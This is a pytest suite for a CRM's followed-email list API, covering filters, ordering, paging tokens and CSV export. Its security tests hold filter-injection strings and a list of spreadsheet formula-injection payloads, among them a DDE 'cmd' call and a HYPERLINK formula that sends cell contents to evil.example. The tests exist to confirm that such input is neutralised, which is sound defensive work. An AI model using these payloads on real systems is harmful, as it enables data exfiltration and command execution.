"""All followed emails: what stands in the list, filters, order, pages, the spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from deployment import ok, recipient, wait_until
from problem import assert_problem
from shelf import FIRST, ask, changed, everything, fill, followed, ids, pages, row

from engagement.domain.messages.follow import FollowState
from engagement.domain.messages.message import Record, Sender, Status
from engagement.domain.verdicts.kpi import Counts, Kpi

LEE = Sender("u-18", "lee@contoso.example", None)
ORDER = ("opportunity", "o-9")

#: What filters and orders are tried on: number to what is special about it.
SHELF = {
    1: {"kpi": Kpi(people=Counts(3, 1, 0), last_opened_at=FIRST, first_opened_at=FIRST)},
    2: {"kpi": Kpi(unsure=Counts(1, 0, 0)), "template_id": "t-1"},
    3: {"kpi": Kpi(reply_count=2), "sender": LEE, "subject": "Straße nach Rom"},
    4: {"kpi": Kpi(automated=Counts(9, 9, 9)), "template_id": "t-1", "sender": LEE},
    5: {
        "kpi": Kpi(
            people=Counts(1, 2, 5), reply_count=1, last_opened_at=FIRST - timedelta(hours=1)
        ),
        "subject": "ANGEBOT",
    },
}


@pytest.fixture(scope="module")
def seller(deployment):
    """An organization with messages that differ."""
    crm = deployment.new_crm()
    fill(crm, [row(number, **fields) for number, fields in SHELF.items()], record=ORDER)
    unfollowed = row(6, follow_state=FollowState.NOT_FOLLOWED)
    fill(crm, [unfollowed, row(7, status=Status.DRAFT, sent_at=None)], record=ORDER)
    return crm


@pytest.fixture(scope="module")
def many(deployment):
    """An organization with 1,200 messages, every hundredth of which was answered."""
    crm = deployment.new_crm()
    rows = [
        row(number, kpi=Kpi(people=Counts(number % 7, 0, 0), reply_count=int(number % 100 == 0)))
        for number in range(1_200)
    ]
    fill(crm, rows)
    return crm


# What stands in the list


def test_a_followed_message_is_listed_as_the_contract_says(crm, deployment):
    regarding = {"type": "opportunity", "id": "o-9", "name": "Fabrikam renewal"}
    others = [recipient(f"{name}@fabrikam.example") for name in ("ben", "cy", "dan", "eve")]
    crm.template("t-1")
    message = crm.sent(
        recipients=[recipient("ann@fabrikam.example", name="Ann"), *others],
        regarding=regarding,
        template_id="t-1",
    )
    (item,) = followed(crm)["items"]

    assert item == {
        "id": message.id,
        "subject": "Contract for signature",
        "sender": {"user_id": "u-17", "email": "seller@contoso.example", "name": "Kim Seller"},
        "recipients": "Ann, ben@fabrikam.example, cy@fabrikam.example, +2",
        "regarding": regarding,
        "template_id": "t-1",
        "status": "sent",
        "follow_state": "followed",
        "sent_at": message.value["sent_at"],
        "kpis": message.kpis,
        "interaction_status": "Not yet opened",
    }
    for url in (message.pixel, message.link):
        deployment.get(url)
    ok(crm.call("POST", f"/messages/{message.id}/replies", json={"replied_by": "x@y.example"}))
    wait_until(lambda: followed(crm)["items"][0]["kpis"] == message.kpis)
    assert message.kpis["reply_count"] == 1
    assert (
        followed(crm, state="clicked")["items"] == followed(crm, record="opportunity:o-9")["items"]
    )
    assert followed(crm)["items"][0]["interaction_status"] == "Replied"


def test_only_what_is_followed_and_was_sent_is_listed(crm):
    crm.draft()
    crm.sent(follow=False)
    crm.sent(recipients=[recipient("x@fabrikam.example", kind="invoice")])
    assert followed(crm) == {"items": [], "continuation": None}

    first, second = crm.sent(), crm.sent()
    assert [item["id"] for item in followed(crm)["items"]] == [second.id, first.id]


def test_a_message_that_could_not_be_sent_is_not_listed(crm, mailbox):
    draft = crm.draft(recipients=[recipient("ann@fabrikam.example")])
    crm.call("POST", f"/messages/{draft['id']}/send", json={"delivery": "graph"})
    assert followed(crm)["items"] == []


def test_each_organization_lists_its_own(deployment, crm):
    crm.template("t-1")
    message = crm.sent(template_id="t-1")
    other = deployment.new_crm()
    for parameters in ({}, {"sender": "u-17"}, {"template": "t-1"}):
        assert [item["id"] for item in followed(crm, **parameters)["items"]] == [message.id]
        assert followed(other, **parameters)["items"] == []


def test_words_are_in_the_viewers_language_and_days_in_the_viewers_zone(seller):
    (english,) = followed(seller, subject="Message 1")["items"]
    (german,) = followed(
        seller, subject="Message 1", language="de-AT", time_zone="Pacific/Kiritimati"
    )["items"]

    assert english["interaction_status"].startswith("Last opened")
    assert german["interaction_status"].startswith("Zuletzt")
    # It was noon in Greenwich, and the next day on the Line Islands.
    assert german["interaction_status"] != "Zuletzt am 20.11.2026 geöffnet"


# Filters


@pytest.mark.parametrize(
    ("filters", "found"),
    [
        ({}, [1, 2, 3, 4, 5]),
        ({"followed": "true"}, [1, 2, 3, 4, 5]),
        ({"sender": "u-18"}, [3, 4]),
        ({"template": "t-1"}, [2, 4]),
        ({"sender": "u-18", "template": "t-1"}, [4]),
        ({"record": "opportunity:o-9"}, [1, 2, 3, 4, 5]),
        ({"record": "Opportunity:o-9", "sender": "u-18"}, [3, 4]),
        ({"record": "opportunity:o-9", "followed": "false"}, [1, 2, 3, 4, 5, 6, 7]),
        ({"record": "opportunity:o-8"}, []),
        ({"record": "account:o-9"}, []),
        ({"state": "opened"}, [1, 5]),
        ({"state": "not_opened"}, [3, 4]),
        ({"state": "unknown"}, [2]),
        ({"state": "clicked"}, [1, 5]),
        ({"state": "replied"}, [3, 5]),
        ({"state": "not_replied"}, [1, 2, 4]),
        ({"state": "not_replied", "sender": "u-18"}, [4]),
        ({"subject": "message"}, [1, 2, 4]),
        ({"subject": "STRASSE"}, [3]),
        ({"subject": "angebot"}, [5]),
        ({"subject": "%"}, []),
        ({"subject": ""}, [1, 2, 3, 4, 5]),
        ({"from": "2026-11-20T11:57:00Z"}, [1, 2, 3]),
        ({"to": "2026-11-20T11:57:00Z"}, [4, 5]),
        ({"from": "2026-11-20T12:57:00+01:00", "to": "2026-11-20T11:58:00.001Z"}, [2, 3]),
        ({"from": "1950-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z"}, [1, 2, 3, 4, 5]),
        ({"to": "1950-01-01T00:00:00Z"}, []),
        ({"from": "9999-12-31T23:59:59Z"}, []),
        ({"sort": "open_count", "from": "2026-11-01T00:00:00Z"}, [1, 5, 2, 3, 4]),
        ({"sort": "click_count", "from": "2026-11-01T00:00:00Z"}, [5, 1, 2, 3, 4]),
        ({"sort": "reply_count", "from": "2026-11-01T00:00:00Z"}, [3, 5, 1, 2, 4]),
        ({"sort": "attachment_view_count", "from": "2026-11-01T00:00:00Z"}, [5, 1, 2, 3, 4]),
        ({"sort": "last_opened_at", "from": "2026-11-01T00:00:00Z"}, [1, 5, 2, 3, 4]),
        (
            {"sort": "last_opened_at", "order": "asc", "from": "2026-11-01T00:00:00Z"},
            [2, 3, 4, 5, 1],
        ),
        (
            {"sort": "subject", "order": "asc", "from": "2026-11-01T00:00:00Z"},
            [5, 1, 2, 4, 3],
        ),
        ({"order": "asc", "from": "2026-11-01T00:00:00Z"}, [5, 4, 3, 2, 1]),
        ({"sort": "open_count", "to": "2026-11-20T12:00:00Z", "state": "opened"}, [1, 5]),
        ({"sort": "open_count", "to": "2027-11-20T12:00:00Z"}, []),
    ],
)
@pytest.mark.parametrize("page_size", [1, 50])
def test_filters_and_orders_show_what_they_say(seller, filters, found, page_size):
    assert everything(seller, page_size=page_size, **filters) == found


@pytest.mark.parametrize(
    "text",
    [
        "x' or RowKey ne '",
        "x' or PartitionKey ne 'x",
        "') or (true) or ('",
        "list-all",
        "*",
        "u-17' or '1' eq '1",
        "%27%20or%20true",
    ],
)
def test_B79_what_looks_like_a_filter_is_text(seller, text):
    for name in ("sender", "template", "subject"):
        assert followed(seller, **{name: text})["items"] == []
    assert followed(seller, record=f"contact:{text}")["items"] == []
    assert followed(seller, record=f"contact:{text}", followed="false")["items"] == []
    activities = ask(seller, "/records/contact/c-1/activities", related=f"contact:{text}")
    assert ok(activities)["items"] == []
    for name in ("state", "sort", "order", "followed", "from", "to", "continuation"):
        assert_problem(ask(seller, **{name: text}), 400, name)
    assert_problem(ask(seller, record=text), 400, "record")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("page_size", size) for size in ("0", "-1", "1000000000", "201", "x")),
        *((name, at) for name in ("from", "to") for at in ("yesterday", "2026-11-20", "0")),
        ("from", "2026-11-20T12:00:00"),
        *(("sender", text) for text in (" ", "x" * 201, "a\nb")),
        *(("template", text) for text in (" ", "x" * 201)),
        *(
            ("record", text)
            for text in (" ", "contact", "contact:", ":c-1", "a b:c", "c:" + "x" * 201)
        ),
        ("subject", "x" * 101),
        ("time_zone", "Mars/Olympus"),
        ("language", "deutsch bitte"),
        ("followed", "false"),
    ],
)
def test_B81_what_makes_no_list_is_refused(seller, name, value):
    assert_problem(ask(seller, **{name: value}), 400, name)


@pytest.mark.parametrize("until", ["2026-11-20T12:00:00Z", "2026-11-20T11:59:59.999Z"])
def test_B81_a_period_that_ends_before_it_begins_is_refused(seller, until):
    period = {"from": "2026-11-20T12:00:00Z", "to": until}
    assert_problem(ask(seller, **period), 400, "to")
    assert_problem(ask(seller, "/exports/messages", **period), 400, "to")


@pytest.mark.parametrize("path", ["/messages", "/exports/messages"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sort", "opens"),
        ("sort", "RowKey"),
        ("sort", "open_count desc"),
        ("order", "down"),
        ("state", "read"),
        ("$filter", "true"),
        ("select", "subject"),
        ("sender_id", "u-17"),
    ],
)
def test_B84_columns_and_fields_that_do_not_exist_are_named(seller, path, name, value):
    assert_problem(ask(seller, path, **{name: value}), 400, name)


# Pages


@pytest.mark.parametrize(
    "order",
    [
        {},
        {"sort": "open_count", "from": "2026-11-01T00:00:00Z"},
        {"sort": "subject", "order": "asc", "from": "2026-11-01T00:00:00Z"},
        {"order": "asc", "from": "2026-11-01T00:00:00Z"},
    ],
)
def test_messages_that_come_while_somebody_pages_neither_double_nor_drop_any(deployment, order):
    crm = deployment.new_crm()
    before = range(100, 130)
    fill(crm, [row(n, kpi=Kpi(people=Counts(n % 3, 0, 0))) for n in before])
    found = [followed(crm, page_size=7, **order)]
    new = 0
    while found[-1]["continuation"]:
        fill(crm, [row(new, kpi=Kpi(people=Counts(1, 0, 0))), row(200 + new)])
        new += 1
        more = {"continuation": found[-1]["continuation"], **order}
        found.append(followed(crm, page_size=7, **more))
    numbers = [number for page in found for number in ids(page)]

    assert len(numbers) == len(set(numbers))
    assert set(before) <= set(numbers)
    assert new >= 4


@pytest.mark.parametrize("page_size", [1, 2, 5])
def test_pages_are_full_and_the_last_says_so(seller, page_size):
    found = pages(seller, page_size=page_size)
    assert [len(page["items"]) for page in found[:-1]] == [page_size] * (len(found) - 1)
    assert len(found) == -(-5 // page_size)


def test_a_page_of_a_filtered_list_looks_at_so_many_rows_and_goes_on(many):
    replied = everything(many, state="replied", page_size=10)
    assert replied == list(range(0, 1_200, 100))
    assert everything(many, subject="message 11", page_size=200) == [
        11,
        *range(110, 120),
        *range(1_100, 1_200),
    ]


def test_what_is_sorted_is_all_of_the_period(many):
    found = everything(many, sort="open_count", from_="2026-01-01T00:00:00Z", page_size=200)
    assert found == sorted(range(1_200), key=lambda n: (-(n % 7), n))


def test_B80_a_continuation_holds_for_its_own_list_only(deployment, seller, many):
    end = followed(seller, page_size=2)["continuation"]
    assert ids(followed(seller, page_size=2, continuation=end)) == [3, 4]
    # How much is shown, and in which words, is no other list.
    assert ids(followed(seller, page_size=1, language="de", continuation=end)) == [3]

    for place in (0, 5, len(end) // 2, len(end) - 2):
        assert_problem(ask(seller, continuation=changed(end, place)), 400, "continuation")
    for wrong in (end[:-3], end + "AAAA", "=", "%00", "é", "x" * 5_000, "WzEsMl0", "e30", "bnVsbA"):
        assert_problem(ask(seller, continuation=wrong), 400, "continuation")
    assert_problem(ask(many, continuation=end), 400, "continuation")
    for other in ({"sender": "u-17"}, {"state": "opened"}, {"sort": "subject"}, {"order": "asc"}):
        assert_problem(ask(seller, continuation=end, **other), 400, "continuation")
    assert_problem(
        ask(seller, "/records/opportunity/o-9/activities", continuation=end), 400, "continuation"
    )


def test_B80_a_continuation_of_activities_holds_for_those_records_only(seller, many):
    path = "/records/opportunity/o-9/activities"
    end = ok(ask(seller, path, page_size=2))["continuation"]
    assert ids(ok(ask(seller, path, page_size=2, continuation=end))) == [3, 4]
    for wrong in (changed(end, 7), end[:-2]):
        assert_problem(ask(seller, path, continuation=wrong), 400, "continuation")
    assert_problem(ask(many, path, continuation=end), 400, "continuation")
    assert_problem(
        ask(seller, "/records/opportunity/o-8/activities", continuation=end), 400, "continuation"
    )
    assert_problem(ask(seller, path, related="contact:c-1", continuation=end), 400, "continuation")
    assert_problem(ask(seller, continuation=end), 400, "continuation")


# The spreadsheet


def sheet(crm, **parameters):
    """The cells of an export, row by row."""
    answer = ask(crm, "/exports/messages", **parameters)
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_the_spreadsheet_has_the_columns_of_the_list(seller):
    answer = ask(seller, "/exports/messages")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="followed-emails')
    assert answer.content.startswith(b"\xef\xbb\xbfSubject,Sender,Sender Email,Recipients,")

    heading, first, *_ = sheet(seller)
    cells = dict(zip(heading, first, strict=True))
    assert cells["Subject"] == "Message 1"
    assert cells["Sent"] == "2026-11-20 11:59:00"
    assert (cells["Opens"], cells["Link Clicks"], cells["Attachment Views"]) == ("3", "1", "0")
    assert cells["Last Opened Time"] == "2026-11-20 12:00:00"
    assert sheet(seller, time_zone="Asia/Tokyo")[1][heading.index("Sent")] == "2026-11-20 20:59:00"
    assert sheet(seller, language="de")[2][heading.index("Status")] == "Nicht feststellbar"


@pytest.mark.parametrize(
    ("filters", "found"),
    [
        ({}, ["Message 1", "Message 2", "Straße nach Rom", "Message 4", "ANGEBOT"]),
        ({"sender": "u-18"}, ["Straße nach Rom", "Message 4"]),
        (
            {"state": "replied", "sort": "reply_count", "from": "2026-11-01T00:00:00Z"},
            ["Straße nach Rom", "ANGEBOT"],
        ),
        ({"subject": "nothing of the kind"}, []),
    ],
)
def test_the_spreadsheet_holds_what_the_list_shows(seller, filters, found):
    assert [cells[0] for cells in sheet(seller, **filters)[1:]] == found


def test_the_spreadsheet_holds_every_page(many):
    assert len(sheet(many)) == 1_201


DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "﹢1",
]
HARMLESS = ["a=b", "Price: -1", "x@y.example", "'=1", "“=1”", "", "日本"]


def test_B82_no_cell_of_the_spreadsheet_is_taken_for_a_formula(crm):
    texts = [*DANGEROUS, *HARMLESS]
    rows = [
        row(
            number,
            subject=text,
            recipients=text,
            sender=Sender(text, text, text or None),
            template_id=text,
            regarding=Record("account", "a-1", text or None),
        )
        for number, text in enumerate(texts)
    ]
    fill(crm, rows)
    heading, *found = sheet(crm)
    columns = [heading.index(x) for x in ("Subject", "Sender", "Sender Email", "Recipients")]
    columns += [heading.index("Template"), heading.index("Regarding")]

    for text, cells in zip(texts, found, strict=True):
        wanted = f"'{text}" if text in DANGEROUS else text
        shown = {cells[column] for column in columns} - {"account a-1"}
        assert shown == {wanted}, text


def test_B82_commas_quotes_and_line_breaks_stay_inside_their_cells(crm):
    subject = 'He said "hi", then\r\nleft;'
    fill(crm, [row(1, subject=subject), row(2)])
    assert [cells[0] for cells in sheet(crm)] == ["Subject", subject, "Message 2"]


# Too much


def test_what_is_too_much_to_sort_or_export_asks_for_a_shorter_period(many, monkeypatch):
    monkeypatch.setattr("engagement.services.listing.MOST_SORTED", 1_199)
    monkeypatch.setattr("engagement.services.listing.MOST_EXPORTED", 1_199)
    year = {"from_": "2026-01-01T00:00:00Z"}
    assert_problem(ask(many, sort="subject", **year), 422, "from")
    assert_problem(ask(many, "/exports/messages"), 422, "from")
    assert_problem(ask(many, "/exports/messages", sort="subject", **year), 422, "from")
    assert len(everything(many, sort="subject", from_="2026-11-20T00:00:00Z", page_size=200)) == 721
